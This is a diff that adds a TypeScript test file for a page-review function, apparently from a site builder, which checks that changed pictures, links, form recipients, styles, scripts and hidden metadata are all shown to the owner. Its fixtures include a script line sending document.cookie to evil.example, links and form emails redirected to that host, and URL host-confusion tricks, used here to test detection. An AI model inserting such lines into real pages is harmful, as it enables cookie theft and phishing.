@@ -1,0 +1,219 @@
+/** What an owner approves is what they are shown: nothing that anybody can see or follow is left out. */
+import { readdirSync, readFileSync } from "node:fs"
+import * as fc from "fast-check"
+import { describe, expect, it } from "vitest"
+import { wellFormedMarkup } from "../../../test/corpus/generate.ts"
+import { judgePage } from "../../../test/corpus/judge.ts"
+import type { ReviewChange } from "./Change.ts"
+import { reviewChanges } from "./reviewChanges.ts"
+
+const of = (was: object, now: object, section?: string) =>
+  reviewChanges({ payload: was }, { payload: now }).filter(
+    (change) => section === undefined || change.section === section
+  )
+const texts = (changes: ReadonlyArray<ReviewChange>) =>
+  changes.map(({ was, now }) => [was?.text ?? null, now?.text ?? null])
+
+describe("what a version changes", () => {
+  it("C1: lists a picture that was swapped and a link that leads to another host, where no word changed", () => {
+    const page = (src: string, href: string) => ({
+      html: `<h1>Workshop</h1><img src="${src}" alt="Our workshop"><p><a href="${href}">Book a visit</a></p>`
+    })
+    const was = page("/media/med_aaaa1", "/book")
+    const now = page("/media/med_bbbb2", "https://evil.example/book")
+    expect(of(was, now)).toEqual([
+      {
+        section: "pictures",
+        label: "Our workshop",
+        was: { text: "/media/med_aaaa1", picture: "/media/med_aaaa1" },
+        now: { text: "/media/med_bbbb2", picture: "/media/med_bbbb2" }
+      },
+      {
+        section: "links",
+        label: "Book a visit",
+        was: { text: "/book" },
+        now: { text: "https://evil.example/book", elsewhere: "evil.example" }
+      }
+    ])
+  })
+
+  it.each([
+    ["//evil.example/x", "evil.example"],
+    ["HTTPS:\\\\evil.example\\x", "evil.example"],
+    ["https://www.own.example@evil.example/", "evil.example"],
+    ["https://evil.example:8443/", "evil.example:8443"],
+    ["/book?to=x", undefined],
+    ["mailto:a@b.example", undefined]
+  ])("marks %s by the host a browser would ask: %s", (href, host) => {
+    const [change] = of({ html: '<a href="/">x</a>' }, { html: `<a href="${href}">x</a>` }, "links")
+    expect(change!.now!.elsewhere).toBe(host)
+  })
+
+  it("tells two links that changed places by their words, whichever of them came first", () => {
+    const links = (one: string, other: string) => ({ html: `<a href="${one}">Pay</a> <a href="${other}">Terms</a>` })
+    expect(
+      of(links("/pay", "/terms"), links("/terms", "/pay"), "links").map(({ label, now }) => [label, now!.text])
+    ).toEqual([
+      ["Pay", "/terms"],
+      ["Terms", "/pay"]
+    ])
+  })
+
+  it("says that pictures stand in another order, and that words are set off otherwise", () => {
+    const pictures = (...ids: ReadonlyArray<string>) => ({
+      html: ids.map((id) => `<img src="/media/med_${id}" alt="${id}">`).join("")
+    })
+    const moved = of(pictures("aaaa", "bbbb"), pictures("bbbb", "aaaa"))
+    expect(moved.map(({ section, label, moved }) => [section, label, moved])).toEqual([
+      ["pictures", "bbbb", true],
+      ["pictures", "aaaa", true]
+    ])
+    const struck = of({ html: "<p><s>40</s> 45</p>" }, { html: "<p>40 <s>45</s></p>" })
+    expect(texts(struck)).toEqual([["40", "45"]])
+  })
+
+  it("says of a form who gets its enquiries, and of a component what it shows", () => {
+    const form = (to: string) => ({
+      html: `<mk-component data-component="lead-form" data-form-id="visit" data-notify-email="${to}"></mk-component>`
+    })
+    const [change] = of(form("a@own.example"), form("b@evil.example"), "forms")
+    expect(change).toMatchObject({
+      label: "lead-form visit: who gets its enquiries",
+      was: { text: "a@own.example" },
+      now: { text: "b@evil.example" }
+    })
+    const list = (items: string) => ({
+      html: `<mk-component data-component="collection" data-key="${items}"></mk-component>`
+    })
+    expect(texts(of(list("pianos"), list("organs"), "components"))).toEqual([["pianos", "organs"]])
+  })
+
+  it("shows colours of a style and of a theme with their values, and the pictures a style loads", () => {
+    const [colour] = of({ css: "a { color: #112233 }" }, { css: "a { color: #fff0 }" })
+    expect(colour).toEqual({
+      section: "looks",
+      label: "a › color",
+      was: { text: "#112233", colours: ["#112233"] },
+      now: { text: "#fff0", colours: ["#fff0"] }
+    })
+    const tokens = (text: string) => ({ tokens: { color: { text }, font: { body: "Inter" } } })
+    expect(of(tokens("#000000"), tokens("#ffffff"))).toMatchObject([
+      { label: "color › text", now: { colours: ["#ffffff"] } }
+    ])
+    const [picture] = of({ css: "a { color: red }" }, { css: "a { background: url(/media/med_aaaa1) }" }, "pictures")
+    expect(picture!.now).toMatchObject({ picture: "/media/med_aaaa1" })
+  })
+
+  it("shows a script as code, and each address that is new in it", () => {
+    const changes = of({ js: "go()" }, { js: 'go()\nnew Image().src = "https://evil.example/?" + document.cookie' })
+    expect(texts(changes)).toEqual([
+      ["1 line of code", "2 lines of code"],
+      [null, "https://evil.example/?"]
+    ])
+    expect(changes[1]!.now!.elsewhere).toBe("evil.example")
+  })
+
+  it("shows what nobody sees: title, description, and what is read aloud", () => {
+    const changes = reviewChanges(
+      { payload: { html: '<p aria-label="a">x</p>' }, title: "Old", meta: { description: "d" } },
+      { payload: { html: '<p aria-label="b">x</p>' }, title: "New", meta: { noindex: true } }
+    )
+    expect(changes.map(({ section, label }) => [section, label])).toEqual([
+      ["hidden", "p “b”: what is read aloud"],
+      ["hidden", "Title, in search results and in the browser's tab"],
+      ["hidden", "Description, in search results"],
+      ["hidden", "Kept out of search results"]
+    ])
+  })
+
+  it("is empty for equal versions alone, and says so where only the source is written otherwise", () => {
+    expect(of({ html: "<p>a</p>" }, { html: "<p>a</p>" })).toEqual([])
+    expect(texts(of({ html: "<p>a</p>" }, { html: "<p>a</p>\n" }))[0]![0]).toBe(
+      "Only spaces and line breaks of the source."
+    )
+    expect(of({ css: "a { color: red }" }, { css: "/* x */ a { color: red }" })).toHaveLength(1)
+  })
+
+  it("grows with the length of a text, not with its square", () => {
+    const cost = (count: number) => {
+      const page = (host: string) => ({
+        html: Array.from({ length: count }, (_, at) => `<a href="https://${host}/${at}"><b>x${at}</b></a>`).join("\n"),
+        css: Array.from({ length: count }, (_, at) => `.c${at} { color: #${host.length}${host.length}0 }`).join("\n")
+      })
+      const [was, now] = [page("one.example"), page("other.example")]
+      const start = process.cpuUsage()
+      expect(of(was, now, "links")).toHaveLength(count)
+      return process.cpuUsage(start).user
+    }
+    cost(200)
+    const [small, large] = [cost(500), cost(2_000)]
+    expect(large / small).toBeLessThan(12)
+  })
+})
+
+/** Bodies that the gate accepts: real pages with random cuts, and generated markup with pictures and links among it. */
+const pages = readdirSync(new URL("../../../test/corpus/pages", import.meta.url))
+  .filter((name) => name.endsWith(".html"))
+  .map((name) => readFileSync(new URL(`../../../test/corpus/pages/${name}`, import.meta.url), "utf8"))
+const address = fc.constantFrom(
+  "/a",
+  "/b?c=d#e",
+  "https://one.example/x",
+  "https://two.example/",
+  "/media/med_aaaa1",
+  "tel:+441"
+)
+const piece = fc.oneof(
+  wellFormedMarkup,
+  address.map((href) => `<p><a href="${href}">Words</a></p>`),
+  address.filter((src) => src.startsWith("/media")).map((src) => `<img src="${src}" alt="">`),
+  fc.constantFrom(...pages)
+)
+const body = fc.array(piece, { minLength: 1, maxLength: 3 }).map((pieces) => pieces.join("\n"))
+const css = fc
+  .array(
+    fc.tuple(
+      fc.constantFrom("a", "p", "@media print { b"),
+      fc.constantFrom("color: #123456", "background: url(/media/med_bbbb2)")
+    ),
+    { maxLength: 3 }
+  )
+  .map((all) =>
+    all.map(([selector, rule]) => `${selector} { ${rule} }${selector.includes("{") ? " }" : ""}`).join("\n")
+  )
+const payload = fc.record({ html: body, css })
+
+/** Every address in a text, found without the model: in attributes and in `url()`. */
+const addressesOf = ({ html, css }: { readonly html: string; readonly css: string }): ReadonlySet<string> =>
+  new Set([
+    ...[
+      ...html.matchAll(/\b(?:href|src|action|poster|cite|data-action)\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s>"']+))/g)
+    ].map(([, double, single, bare]) => (double ?? single ?? bare)!),
+    ...[...css.matchAll(/url\(([^)]*)\)/g)].map(([, url]) => url!)
+  ])
+
+describe("over random pairs of accepted pages", () => {
+  it("C1: the list is never empty where they differ, and every address that only one of them has is in it", () => {
+    let looked = 0
+    fc.assert(
+      fc.property(payload, payload, (was, now) => {
+        fc.pre(judgePage(was.html).ok && judgePage(now.html).ok)
+        const changes = of(was, now)
+        const differ = was.html !== now.html || was.css !== now.css
+        expect(changes.length > 0).toBe(differ)
+        const told = changes.flatMap(({ was, now }) => [was?.text ?? "", now?.text ?? ""]).join("\n")
+        const [before, after] = [addressesOf(was), addressesOf(now)]
+        for (const address of new Set([...before, ...after])) {
+          if (before.has(address) && after.has(address)) continue
+          looked++
+          expect(told).toContain(unescaped(address))
+        }
+      }),
+      { numRuns: 150 }
+    )
+    expect(looked).toBeGreaterThan(50)
+  })
+})
+
+const unescaped = (text: string): string =>
+  text.replaceAll("&lt;", "<").replaceAll("&gt;", ">").replaceAll("&quot;", '"').replaceAll("&amp;", "&")
